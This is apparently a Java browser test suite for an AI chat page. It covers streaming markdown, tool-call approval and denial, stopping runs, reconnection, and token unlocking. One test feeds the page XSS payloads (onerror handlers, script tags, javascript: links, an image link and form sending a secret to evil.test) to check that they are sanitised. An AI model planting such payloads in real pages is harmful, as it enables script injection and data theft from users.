package dev.millrace.examples.server;

import static java.util.Objects.requireNonNull;
import static org.assertj.core.api.Assertions.assertThat;

import dev.millrace.testkit.Reply;
import dev.millrace.testkit.Script;
import java.io.IOException;
import java.nio.file.Path;
import java.time.Duration;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.api.parallel.Execution;
import org.junit.jupiter.api.parallel.ExecutionMode;

/** The page in a real browser. */
@Execution(ExecutionMode.SAME_THREAD)
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class ChatPageTest {
  private static final String ANSWER = ".item.text[data-state]:not([data-state=void])";
  private static final String VOID = ".item.text[data-state=void]";

  private @Nullable Browser browser;

  @TempDir private Path folder;

  @BeforeAll
  void startTheBrowser() throws IOException {
    browser = Browser.start().orElse(null);
    if (browser == null) {
      System.out.println("The tests of the page are left out: there is no Chromium on the PATH.");
    }
  }

  @AfterAll
  void endTheBrowser() throws IOException {
    if (browser != null) {
      browser.close();
    }
  }

  @BeforeEach
  void needABrowser() {
    Assumptions.assumeTrue(browser != null, "there is no Chromium on the PATH");
  }

  private Tab tab() throws IOException {
    return requireNonNull(browser).tab();
  }

  @Test
  void showsTextAsItIsWrittenAsMarkdown() throws Exception {
    var answer = new Dictation();
    try (var served = Served.answering(folder, Script.of(answer.reply()));
        var tab = tab().open(served.link())) {
      tab.say("Hello");
      tab.awaitText(".item.user", "Hello");
      answer.say("Some **bold** te");
      tab.awaitText(".item.text strong", "bold");
      tab.picture("1-streaming");
      assertThat(tab.text("#stop")).isEqualTo("Stop");
      answer.say("xt\n\n- one\n- two\n\n```java\nint a = 1;\n```\n\n| a | b |\n|-|-|\n| 1 | 2 |\n");
      answer.end();
      tab.awaitStatus("idle");
      assertThat(tab.count(ANSWER)).isOne();
      assertThat(tab.count(".item.text li")).isEqualTo(2);
      assertThat(tab.text(".item.text pre code")).isEqualTo("int a = 1;\n");
      assertThat(tab.count(".item.text td")).isEqualTo(2);
      assertThat(tab.text(".usage")).contains("10 tokens in").contains("20 out");
      assertThat(tab.text("#meter")).contains("tokens/s").contains("first after");
      tab.dark(true);
      tab.picture("2-answered-dark");
    }
  }

  @Test
  void aToolCardGrowsAndItsCallRunsWhenItIsAllowed() throws Exception {
    var call = new Dictation();
    var script = Script.of(call.reply(), Reply.says("Written."));
    try (var served = Served.answering(folder, script);
        var tab = tab().open(served.link())) {
      tab.say("Write a poem");
      call.say("I write it.").call("toolu_1", "write_file").input("{\"path\": \"poem.txt\", \"con");
      tab.awaitText(".tool[data-state=streaming] .value", "poem.txt");
      call.input("tent\": \"The wheel\\nturns \\u00");
      tab.awaitText(".tool[data-state=streaming] .value", "The wheel\nturns ");
      tab.picture("3-tool-grows");
      call.input("e9t\\u00e9\\n");
      tab.awaitText(".tool[data-state=streaming] .value", "The wheel\nturns été\n");
      call.input("\"}").end();
      tab.awaitStatus("waiting");
      assertThat(tab.text(".approval details pre"))
          .isEqualTo(
              """
              {
                "path": "poem.txt",
                "content": "The wheel\\nturns été\\n"
              }\
              """);
      tab.picture("4-approval");
      assertThat(served.folder().resolve("poem.txt")).doesNotExist();
      tab.click(".approval .allow input");
      tab.click("#approvals button.primary");
      tab.awaitText(ANSWER, "Written.");
      tab.awaitStatus("idle");
      assertThat(tab.count(".tool[data-state=done]")).isOne();
      assertThat(served.folder().resolve("poem.txt")).hasContent("The wheel\nturns été\n");
      tab.picture("5-allowed");
    }
  }

  @Test
  void aCallThatIsDeniedDoesNotRunAndTheModelIsToldWhy() throws Exception {
    var script =
        Script.of(
                Reply.says("I edit.")
                    .calls(
                        "edit_file",
                        """
                        {"path": "a.txt", "version": "00000000",
                         "edits": [{"old_text": "one\\ntwo", "new_text": "three"}]}\
                        """))
            .expect(
                "the reason",
                request ->
                    request.toolResult("edit_file").orElseThrow().text().contains("Leave it be"))
            .then(Reply.says("As you wish."));
    try (var served = Served.answering(folder, script);
        var tab = tab().open(served.link())) {
      tab.say("Change it");
      tab.awaitStatus("waiting");
      assertThat(tab.text(".approval .removed")).isEqualTo("one\ntwo");
      assertThat(tab.text(".approval .added")).isEqualTo("three");
      tab.picture("6-diff");
      tab.value("document.querySelector('.choice input:not([type])').focus()");
      tab.type("Leave it be");
      tab.press("Enter");
      tab.awaitText(ANSWER, "As you wish.");
      assertThat(tab.count(".tool[data-state=failed]")).isOne();
    }
  }

  @Test
  void aQuestionIsAnswered() throws Exception {
    var script =
        Script.of(
                Reply.calls("ask_user", "{\"question\": \"Which?\", \"options\": [\"a\", \"b\"]}"))
            .expect(
                "the answer",
                request -> request.toolResult("ask_user").orElseThrow().text().equals("b"))
            .then(Reply.says("It is b."));
    try (var served = Served.answering(folder, script);
        var tab = tab().open(served.link())) {
      tab.say("Ask me");
      tab.awaitStatus("waiting");
      tab.click(".approval button:nth-of-type(2)");
      tab.press("Enter");
      tab.awaitText(ANSWER, "It is b.");
    }
  }

  @Test
  void escapeStopsARunAndItsRequest() throws Exception {
    var endless = Reply.says("On and on", "never").stallAfterEvent(3);
    try (var served = Served.answering(folder, Script.of(endless, Reply.says("Again.")));
        var tab = tab().open(served.link())) {
      tab.say("Go on for ever");
      tab.awaitText(ANSWER, "On and on");
      tab.press("Escape");
      tab.awaitStatus("idle");
      served.model().awaitNoConnections(Duration.ofSeconds(10));
      tab.picture("7-stopped");
      tab.say("Once more");
      tab.awaitText(ANSWER, "Again.");
    }
  }

  @Test
  void aLostNetworkCostsNoCharacterAndDoublesNone() throws Exception {
    var answer = new Dictation();
    try (var served = Served.answering(folder, Script.of(answer.reply()));
        var tab = tab().open(served.linkOverRelay())) {
      tab.say("Count");
      var counted = new StringBuilder();
      for (int i = 0; i < 300; i++) {
        answer.say(i + " ");
        counted.append(i).append(' ');
        if (i % 100 == 50) {
          tab.awaitText(ANSWER, " " + (i - 1) + " ");
          served.relay().lose();
          tab.await("document.querySelector('#connection').dataset.state === 'lost'");
          tab.picture("8-lost");
        } else if (i % 100 == 90) {
          served.relay().restore();
          tab.awaitText(ANSWER, " " + i + " ");
        }
      }
      answer.end();
      tab.awaitStatus("idle");
      assertThat(tab.text(ANSWER).strip()).isEqualTo(counted.toString().strip());
      assertThat(served.model().requestCount()).isOne();
    }
  }

  @Test
  void twoTabsAndAReloadShowTheSameRun() throws Exception {
    var answer = new Dictation();
    try (var served = Served.answering(folder, Script.of(answer.reply(), Reply.says("Second.")));
        var first = tab().open(served.link())) {
      first.say("Hello");
      answer.say("One ");
      first.awaitText(ANSWER, "One");
      first.await("location.hash.startsWith('#c=')");
      try (var second = tab().open(first.value("location.href").asString())) {
        second.awaitText(ANSWER, "One");
        answer.say("two ");
        first.awaitText(ANSWER, "One two");
        second.awaitText(ANSWER, "One two");
        first.reload();
        first.awaitText(ANSWER, "One two");
        answer.say("three").end();
        for (var tab : new Tab[] {first, second}) {
          tab.awaitStatus("idle");
          assertThat(tab.text(ANSWER).strip()).isEqualTo("One two three");
          assertThat(tab.count(".item")).isEqualTo(2);
        }
        first.say("More");
        second.awaitText(ANSWER, "Second.");
        second.awaitStatus("idle");
        first.awaitStatus("idle");
        assertThat(second.count(".item")).isEqualTo(4);
        first.reload();
        first.awaitText(ANSWER, "Second.");
        assertThat(first.count(".item")).isEqualTo(4);
      }
    }
  }

  @Test
  void whatBrokeOffFadesAndTheAnswerIsWhole() throws Exception {
    var broken = new Dictation();
    var whole = new Dictation();
    try (var served = Served.answering(folder, Script.of(broken.reply(), whole.reply()));
        var tab = tab().open(served.link())) {
      tab.say("Tell me");
      broken.say("Once upon");
      tab.awaitText(ANSWER, "Once upon");
      broken.breakOff();
      tab.awaitText(VOID, "Once upon");
      whole.say("Once upon a time");
      tab.awaitText(ANSWER, "Once upon a time");
      assertThat(tab.text(".retry")).contains("attempt 2");
      tab.picture("9-retried");
      whole.end();
      tab.awaitStatus("idle");
      assertThat(tab.text(ANSWER).strip()).isEqualTo("Once upon a time");
      assertThat(
              tab.value("getComputedStyle(document.querySelector('" + VOID + "')).opacity")
                  .asDouble())
          .isLessThan(1);
    }
  }

  @Test
  void nothingThatTheModelWritesRuns() throws Exception {
    var evil =
        """
        <img src=x onerror="window.hacked = 1"> <svg onload="window.hacked = 2"></svg>
        <script>window.hacked = 3</script> <iframe src="javascript:window.hacked = 4"></iframe>

        [click](javascript:window.hacked=5) [data](data:text/html,<script>1</script>)
        ![carries it away](https://evil.test/?secret)

        <a href="https://fine.test" onclick="window.hacked = 6" style="position:fixed">fine</a>
        <form action="https://evil.test"><input name=q><button>go</button></form>
        """;
    var script =
        Script.of(
            Reply.says(evil)
                .calls(
                    "write_file",
                    "{\"path\": \"<img src=x onerror=alert(1)>\", \"content\": \"</pre><script>window.hacked = 7</script>\"}"));
    try (var served = Served.answering(folder, script);
        var tab = tab().open(served.link())) {
      tab.say("<img src=x onerror='window.hacked = 8'>");
      tab.awaitStatus("waiting");
      assertThat(tab.count("img, svg:not(#meter svg), iframe, .item form, .item script")).isZero();
      assertThat(
              tab.value(
                      "[...document.querySelectorAll('.item a[href]')].map((a) => a.getAttribute('href')).join()")
                  .asString())
          .isEqualTo("https://fine.test");
      assertThat(tab.count(".item [onclick], .item [style]")).isZero();
      assertThat(tab.value("typeof window.hacked").asString()).isEqualTo("undefined");
      tab.value(
          "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.hacked = 9\">')");
      tab.await("document.querySelector('body > img').complete");
      assertThat(tab.value("typeof window.hacked").asString()).isEqualTo("undefined");
    }
  }

  @Test
  void withoutTheTokenThePageAsksForIt() throws Exception {
    try (var served = Served.answering(folder, Script.of(Reply.says("Welcome.")));
        var tab = tab().open(served.uri().toString() + "/#token=wrong-but-long-enough-000")) {
      tab.say("Hello");
      tab.await("!document.querySelector('#unlock').hidden");
      tab.picture("10-locked");
      tab.type(Served.TOKEN);
      tab.press("Enter");
      tab.say("Hello");
      tab.awaitText(ANSWER, "Welcome.");
      assertThat(tab.value("location.href").asString()).doesNotContain("token");
    }
  }
}
